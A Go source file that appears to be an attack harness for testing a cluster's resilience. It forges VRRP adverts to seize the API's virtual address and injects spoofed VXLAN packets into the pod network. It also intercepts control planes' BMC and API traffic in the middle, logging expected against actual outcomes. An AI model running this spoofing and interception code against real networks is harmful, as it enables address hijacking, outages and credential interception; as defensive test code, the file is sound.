package attack

import (
	"context"
	"fmt"
	"net"
	"net/netip"
	"slices"
	"sync"
	"time"

	"github.com/holdfast/holdfast/internal/adapter/host"
	"github.com/holdfast/holdfast/internal/decide/vrrp"
	"github.com/holdfast/holdfast/internal/model/site"
)

const (
	// often is the pause between two adverts, or two claims of an address.
	often = 100 * time.Millisecond
	// forgedFor is the time for which each kind of advert is sent.
	forgedFor = 10 * time.Second
)

// repeatedly repeats an action until a time is up, and returns its first error.
func repeatedly(ctx context.Context, d time.Duration, do func() error) error {
	ctx, stop := context.WithTimeout(ctx, d)
	defer stop()
	for ctx.Err() == nil {
		if err := do(); err != nil {
			return err
		}
		_ = host.Sleep(ctx, often)
	}
	return nil
}

// adverts claims the API's address for this host with the highest priority, and
// claims that its holder gives it up: in this host's name, and in that of each
// control plane. Hosts know the hardware address from which a control plane
// sends.
func (a *attacker) adverts(ctx context.Context) {
	wire, err := open(a.MachineNIC)
	if err != nil {
		a.trouble(ctx, err)
		return
	}
	defer wire.close()
	for ctx.Err() == nil {
		for _, from := range append([]Host{a.Own}, a.ControlPlanes...) {
			for _, priority := range []byte{255, 0} {
				a.forge(ctx, wire, Nothing, from, wire.nic.HardwareAddr, priority)
			}
		}
	}
}

// forge sends adverts in the name of a host, from a hardware address, to all
// other hosts.
func (a *attacker) forge(ctx context.Context, wire *sender, expected Expectation, from Host, at net.HardwareAddr, priority byte) {
	id, _ := vrrp.RouterIDs(a.Cluster)
	l := Line{
		Name: fmt.Sprintf("adverts of priority %d from %s", priority, at), Who: from.Name, To: "the holder of the API's address",
		Expected: expected, Got: sent, Began: time.Now(),
	}
	err := repeatedly(ctx, forgedFor, func() error {
		for _, to := range a.ControlPlanes {
			mac, err := net.ParseMAC(to.Machine.MAC)
			if err != nil || to.Name == from.Name {
				continue
			}
			for _, vip := range a.APIVIPs {
				packet := advert(from.Machine.Address, to.Machine.Address, vip, id, priority)
				if err := wire.send(ethernet(mac, at, etherIPv4, packet)); err != nil {
					return err
				}
			}
		}
		return nil
	})
	if err != nil {
		l.Got, l.Detail = failed, err.Error()
	}
	a.note(ctx, l)
}

// packets sends packets into the pod network in the names of control planes'
// pods, to pods and to the closed ports of control planes. A host of the
// cluster may send such packets. No answer comes back, and every receiver
// demands a key.
func (a *attacker) packets(ctx context.Context) {
	for ctx.Err() == nil {
		for _, to := range a.ControlPlanes {
			for _, from := range a.ControlPlanes {
				if from.Name != to.Name && to.Pods.IsValid() && from.Pods.IsValid() {
					a.inject(ctx, from, to)
				}
			}
		}
		_ = host.Sleep(ctx, time.Second)
	}
}

func (a *attacker) inject(ctx context.Context, from, to Host) {
	l := Line{Name: "packets of the pod network", Who: "pods of " + from.Name, To: to.Name, Expected: Nothing, Got: sent, Began: time.Now()}
	defer func() { a.note(ctx, l) }()
	conn, err := (&net.Dialer{}).DialContext(ctx, "udp", netip.AddrPortFrom(to.Machine.Address, vxlanPort).String())
	if err != nil {
		l.Got, l.Detail = failed, err.Error()
		return
	}
	defer func() { _ = conn.Close() }()
	source, target := from.Pods.Addr(), to.Pods.Addr()
	for range 20 { // the tunnel's own end, its bridge, and pods
		for _, port := range []uint16{53, 5405, 8472} {
			packet := ipv4(source, target, protocolUDP, udp(port, "hostile"))
			_, _ = conn.Write(tunnelled(broadcast, net.HardwareAddr{2, 0, 0, 0, 0, 1}, packet)) // an ICMP error is an answer too
		}
		target = target.Next()
	}
}

// betweenHostsAndBMCs leads the requests of control planes to their BMCs to
// this host, and answers that all is off.
func (a *attacker) betweenHostsAndBMCs(ctx context.Context) {
	var bmcs []netip.Addr
	var victims []Place
	for _, h := range a.ControlPlanes {
		bmcs, victims = append(bmcs, h.BMC), append(victims, h.Fencing)
	}
	a.lead(ctx, trap{
		name: "the accounts of BMCs, from between", nic: a.FencingNIC, addresses: bmcs, victims: victims, ports: []uint16{bmcPort}, at: 44443,
	})
}

// wireFor is the time for each attempt that cannot be prevented.
const wireFor = 20 * time.Second

// wire leads the packets for the API's address to this host, then keeps
// everybody from the address.
func (a *attacker) wire(ctx context.Context, lasts time.Duration) {
	ctx, end := context.WithTimeout(ctx, lasts)
	defer end()
	once, stop := context.WithTimeout(ctx, wireFor)
	everybody := Place{MAC: broadcast.String(), Address: netip.IPv4Unspecified()}
	a.lead(once, trap{
		name: "what clients tell the API, from between", nic: a.MachineNIC, addresses: a.APIVIPs, victims: []Place{everybody},
		ports: []uint16{site.APIPort, site.ConfigServerPort}, at: 44444,
	})
	stop()
	wire, err := open(a.MachineNIC)
	if err != nil {
		a.trouble(ctx, err)
		return
	}
	defer wire.close()
	// All names are used at once: the holder of the address receives one of
	// them.
	var all sync.WaitGroup
	for _, from := range slices.Clone(a.ControlPlanes) {
		if mac, err := net.ParseMAC(from.Machine.MAC); err == nil {
			all.Go(func() { a.forge(ctx, wire, Open, from, mac, 255) })
		}
	}
	all.Wait()
}
